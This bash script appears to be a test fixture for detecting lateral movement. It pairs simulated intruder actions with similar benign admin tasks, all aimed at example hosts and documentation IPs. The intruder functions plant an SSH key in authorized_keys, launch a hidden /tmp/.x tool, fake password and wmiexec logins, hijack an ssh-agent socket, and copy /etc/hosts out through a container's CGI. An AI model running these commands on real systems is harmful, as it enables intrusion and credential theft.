#!/bin/bash
# Lateral movement: from here to the next machine. Beside it, logins and copies that belong here.
# Nobody at the other end answers: each ssh gives up within a second.

QUICKLY="-o BatchMode=yes -o ConnectTimeout=1"

# The intruder, as root on the host.

host_log_in_anywhere() {
  ssh $QUICKLY -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@198.51.100.110 id || true
}

host_hand_out_a_key() {
  ssh $QUICKLY packages.example.org "echo ssh-ed25519 AAAA intruder >> .ssh/authorized_keys" || true
}

host_start_a_tool_there() {
  ssh $QUICKLY packages.example.org "chmod 755 /tmp/.x; nohup /tmp/.x" || true
}

host_try_a_password() {
  printf '#!/bin/bash\nshift 2\nexec "$@"\n' > /usr/local/bin/sshpass
  chmod 755 /usr/local/bin/sshpass
  sshpass -p example ssh $QUICKLY ops@packages.example.org id || true
}

host_administer_windows() {
  cp /opt/tactic.py /tmp/wmiexec.py
  python3 /tmp/wmiexec.py example.com/ops@198.51.100.110 whoami
}

host_ops_start_an_agent() {
  mkdir -m 700 /tmp/ssh-ops
  ssh-agent -a /tmp/ssh-ops/agent.100 > /tmp/ssh-ops/variables
  SSH_AUTH_SOCK=/tmp/ssh-ops/agent.100 ssh-add -l || true
}

host_take_over_the_agent() {
  SSH_AUTH_SOCK=/tmp/ssh-ops/agent.100 ssh-add -l || true
}

# The intruder, in the container: through its server, and in a shell.

internet_run_commands() {
  exec 3<> /dev/tcp/172.18.0.2/8080
  printf 'GET /cgi-bin/status?log_in_elsewhere HTTP/1.0\r\n\r\n' >&3
  cat <&3
}

served_log_in_elsewhere() {
  ssh $QUICKLY 192.0.2.10 id || true
}

container_log_in_elsewhere() {
  scp $QUICKLY /etc/hosts 192.0.2.10:/tmp/ || true
}

# Ordinary work.

internet_ask() {
  exec 3<> /dev/tcp/172.18.0.2/8080
  printf 'GET /cgi-bin/status?say_what_is HTTP/1.0\r\n\r\n' >&3
  cat <&3
}

served_say_what_is() {
  date
  hostname
}

host_set_up_machines() {
  printf '#!/bin/bash\nssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=1 "$1" true || true\n' > /usr/local/bin/ansible-playbook
  chmod 755 /usr/local/bin/ansible-playbook
  ansible-playbook packages.example.org
}

host_tty_log_in() {
  ssh $QUICKLY packages.example.org uptime || true
  ssh $QUICKLY packages.example.org "sh /srv/deploy.sh" || true
}

host_copy_a_key() {
  printf '#!/bin/bash\nssh -o BatchMode=yes -o ConnectTimeout=1 "$1" "cat >> .ssh/authorized_keys" || true\n' > /usr/local/bin/ssh-copy-id
  chmod 755 /usr/local/bin/ssh-copy-id
  ssh-copy-id packages.example.org
}

host_run_own_scripts() {
  cp /opt/tactic.py /tmp/report.py
  python3 /tmp/report.py
}

host_ops_as_root_with_the_own_agent() {
  sudo -n SSH_AUTH_SOCK=/tmp/ssh-ops/agent.100 ssh-add -l || true
}

host_ops_stop_the_agent() {
  . /tmp/ssh-ops/variables
  ssh-agent -k
}

container_fetch_sources() {
  GIT_SSH_VARIANT=ssh timeout 1 git ls-remote ssh://git@198.51.100.110/tool.git || true
  ssh -V
}

"$1"
